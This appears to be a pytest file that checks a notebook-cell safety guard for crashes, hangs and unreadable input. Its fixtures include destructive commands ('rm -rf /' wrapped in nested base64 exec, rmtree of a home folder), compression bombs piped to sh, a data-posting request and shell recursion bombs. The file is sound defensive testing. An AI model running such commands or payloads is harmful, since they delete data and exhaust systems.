"""Hostile cells: none crashes the readers, fails the guard or takes unbounded work, and what is not read is said."""

from __future__ import annotations

import base64
import bz2
import gzip
import subprocess
import sys
import time
from pathlib import Path

import pytest

from jupyter_guard.guard.session import Session
from jupyter_guard.terms import Kind, Report

ROOT = Path(__file__).parents[2]
# Far above what any of these takes on a quiet machine (at most 3 s): unbounded work takes minutes.
SECONDS = 60
BOMB = b"\0" * 50_000_000


def _base64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _nested(times: int) -> str:
    text = "import os; os.system('rm -rf /')"
    for _ in range(times):
        text = f"import base64; exec(base64.b64decode('{_base64(text.encode())}'))"
    return text


CELLS = {
    "statements, 2 MB": "\n".join(f'v{i} = model_{i}.fit(x_{i}, y[{i}], name="n{i}")' for i in range(40_000)),
    "dictionary, 2 MB": "d = {" + ",".join(f'"k{i}": [{i}, {i}.5, "v"]' for i in range(70_000)) + "}",
    "text, 2 MB": 'x = "' + "ab c" * 500_000 + '"',
    "comments, 2 MB": "# x = !ls\n" * 200_000,
    "base64, 2 MB": 'import base64\nexec(base64.b64decode(b"' + "QUJD" * 500_000 + '"))',
    "broken, 2 MB": "x = f(1)\n" * 220_000 + 'print "x',
    "Python 2 and a long line": 'print "a"\n' * 2_900 + "x = 1 # " + "y" * 2_000_000,
    "shell, 2 MB": "%%bash\n" + "echo a | grep b && rm -f x\n" * 70_000,
    "SQL, 2 MB": "%%sql\n" + "SELECT a FROM t WHERE b = 1;\n" * 70_000,
    "brackets": "(" * 10_000 + ")" * 10_000,
    "open brackets": "[({" * 10_000,
    "attributes": "x" + ".a" * 50_000,
    "calls": "x" + "()" * 50_000,
    "items": "x" + "[0]" * 50_000,
    "sums": "x = " + "+".join(["a"] * 50_000),
    "comparisons": "x = " + "<".join(["a"] * 50_000),
    "powers": "x = " + "**".join(["2"] * 5_000),
    "conditions": "x = " + "a if b else " * 5_000 + "c",
    "elif": "if a: pass\n" + "elif b: x = 1\n" * 5_000,
    "nots": "not " * 20_000 + "x",
    "loops in loops": "".join(" " * i + f"for a{i} in x{i}:\n" for i in range(90)) + " " * 90 + "y = f(y)",
    "known loops in loops": "".join(" " * i + f"for a{i} in [1,2,3,4,5,6,7,8,9]:\n" for i in range(15)) + " " * 15 + "f()",
    "comprehensions in comprehensions": "[" * 60 + "a" + "".join(f" for b{i} in range(9)]" for i in range(60)),
    "one comprehension": "[a " + "".join(f" for b{i} in [1,2,3,4,5,6,7,8,9]" for i in range(40)) + "]",
    "f-string": 'x = f"' + "{a}{b!r:>{c}}" * 20_000 + '"',
    "doubling text": 'x = "ab"\n' + "x = x + x\n" * 3_000,
    "doubling f-string": 'x = "ab"\n' + 'x = f"{x}{x}"\n' * 3_000,
    "doubling list": "x = [1]\n" + "x = x + x\n" * 3_000,
    "lists in lists": "x = [1]\n" + "x = [x, x, x]\n" * 2_000 + "exec(x)\nopen(x)\nprint(x)",
    "dictionaries in dictionaries": 'x = {}\n' + 'x = {"a": x, "b": x}\n' * 300 + 'import requests\nrequests.post("http://h", json=x)',
    "replace": 'x = "a"\n' + 'x = x.replace("a", "a" * 10)\n' * 200,
    "join": 'x = "ab"\n' + "x = x.join([x, x, x])\n" * 200,
    "format": 'x = "{0}{0}"\n' + "x = x.format(x)\n" * 100,
    "widths": 'a = "%999999999d" % 1\nb = "{:>999999999}".format(1)\nc = f"{1:>999999999}"\nd = "a".ljust(10**10)\ne = "a".zfill(10**9)',
    "numbers": "x = 10**1000\ny = x**x\nz = (-3)**10**8\nv = 1 << 4000\n" + "v = v * v\n" * 100,
    "empty list times much": "x = 2**70 * []",
    "a byte that is none": "x = 256 in b'text'",
    "gzip bomb": f'import gzip, base64\nexec(gzip.decompress(base64.b64decode("{_base64(gzip.compress(BOMB))}")))',
    "gzip bomb in a shell": f"!echo {_base64(gzip.compress(BOMB))} | base64 -d | gunzip | sh",
    "bzip2 bomb in a shell": f"!echo {_base64(bz2.compress(BOMB))} | base64 -d | bunzip2 | sh",
    "base64 in base64": _nested(14),
    "braces": "!rm " + "{a,b}" * 40,
    "brace range": "!rm {1..999999999}",
    "substitutions": "!" + "$(" * 300 + "x" + ")" * 300,
    "pipes": "!" + "|".join(["cat"] * 20_000),
    "doubling variable": "%%bash\nx=ab\n" + "x=$x$x\n" * 60 + "rm $x",
    "functions of the shell": "%%bash\nf() { f; f; f; }\n" + "f; " * 200,
    "shell loops in loops": "%%bash\n" + "for i in 1 2 3 4 5 6 7 8 9; do " * 12 + "rm $i; " + "done; " * 12,
    "open here-documents": "%%bash\n" + "cat <<E%d " * 3_000,
    "SQL in brackets": "%%sql\nSELECT " + "(" * 5_000 + "1" + ")" * 5_000,
    "SQL conditions": "%%sql\nDELETE FROM t WHERE " + " OR ".join(f"a={i}" for i in range(20_000)),
    "SQL quotes": "%%sql\n" + "'" * 99_999,
    "SQL templates": "%%sql\n" + "{% if x %}" * 20_000,
    "escapes in a text": "x = '" + "a=!b " * 20_000 + "'",
    "quotes": '"' * 200_001,
    "backslashes": "\\\n" * 50_000,
    "magics in magics": "%time " * 20_000 + "x",
    "commands": "!ls\n" * 20_000,
    "fan of functions": "".join(f"def f{i}(x): return f{i + 1}(x) + f{i + 1}(x) + f{i + 1}(x)\n" for i in range(20)) + "f0(1)",
    "lambdas": "f = lambda x: x\n" + "f = (lambda g: lambda x: g(g(x)))(f)\n" * 40 + "f(1)",
    "diamonds": "class A0: pass\nclass B0: pass\n"
    + "".join(f"class A{i + 1}(A{i}, B{i}): pass\nclass B{i + 1}(A{i}, B{i}): pass\n" for i in range(40))
    + "A40().x\nB40().y()",
    "text that runs itself": 's = "exec(s)"\nexec(s)',
    "tokens": 'x = "' + "AKIA" * 100_000 + '"',
    "spaces": " " * 1_000_000 + "x",
    "carriage returns": "x = 1\r" * 50_000,
    "wide names": "变量 = 模型.拟合(数据)\n" * 10_000,
    "combining characters": "a" + "\u0301" * 50_000,
}  # fmt: skip


def _vet(code: str) -> Report:
    session = Session("personal", origin="assistant", workspace="/home/user/work")
    begun = time.perf_counter()
    report = session.vet(code)
    assert time.perf_counter() - begun < SECONDS
    assert not [finding.message for finding in report.findings if finding.rule == "JG000"]
    assert session.vet("x = 1").verdict == "allow"
    return report


@pytest.mark.parametrize("name", CELLS)
def test_no_cell_is_too_much(name: str) -> None:
    report = _vet(CELLS[name])
    assert not report.problems or Kind.UNREAD in {effect.kind for effect in report.effects}


@pytest.mark.parametrize(
    "code",
    [
        "x = 1\0\nimport os; os.system('rm -rf /')",
        "x = '\ud800'\nimport os; os.system('rm -rf \udfff')",
        "(" * 10_000 + ")" * 10_000,
        "x = 1\n" * 1_100_000,
        "%%bash\n" + "(" * 9_000,
        "%%bash\n" + "echo a\n" * 60_000,
    ],
)
def test_what_cannot_be_read_is_said(code: str) -> None:
    report = _vet(code)
    assert Kind.UNREAD in {effect.kind for effect in report.effects}
    assert report.verdict in ("confirm", "block")


def test_what_follows_the_hostile_part_counts() -> None:
    report = _vet("x = 'ab'\n" + "x = x + x\n" * 500 + "import shutil\nshutil.rmtree('/home/user')")
    assert Kind.FILE_DELETE in {effect.kind for effect in report.effects}


def test_a_few_seconds_of_fuzzing_find_nothing() -> None:
    command = [sys.executable, "-m", "benchmarks.vet.fuzz", "--seconds", "8", "--seed", "7"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=200)
    assert done.returncode == 0, done.stdout + done.stderr
    assert int(done.stdout.split()[0]) > 50
